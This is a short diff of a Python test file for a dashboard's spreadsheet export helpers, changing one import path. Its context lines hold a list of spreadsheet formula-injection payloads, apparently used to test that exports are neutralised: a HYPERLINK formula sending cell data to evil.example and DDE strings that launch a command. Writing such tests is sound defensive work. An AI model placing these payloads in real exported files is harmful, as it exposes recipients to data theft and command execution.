@@ -9,7 +9,7 @@ import pytest
 
 from dashboard.enums import Role
 from dashboard.services.data import exports
-from dashboard.services.data.spreadsheet import for_excel, frame_csv, inert, rows_csv
+from dashboard.services.tables.spreadsheet import for_excel, frame_csv, inert, rows_csv
 from tests.factories import make_report, make_stream, make_user
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
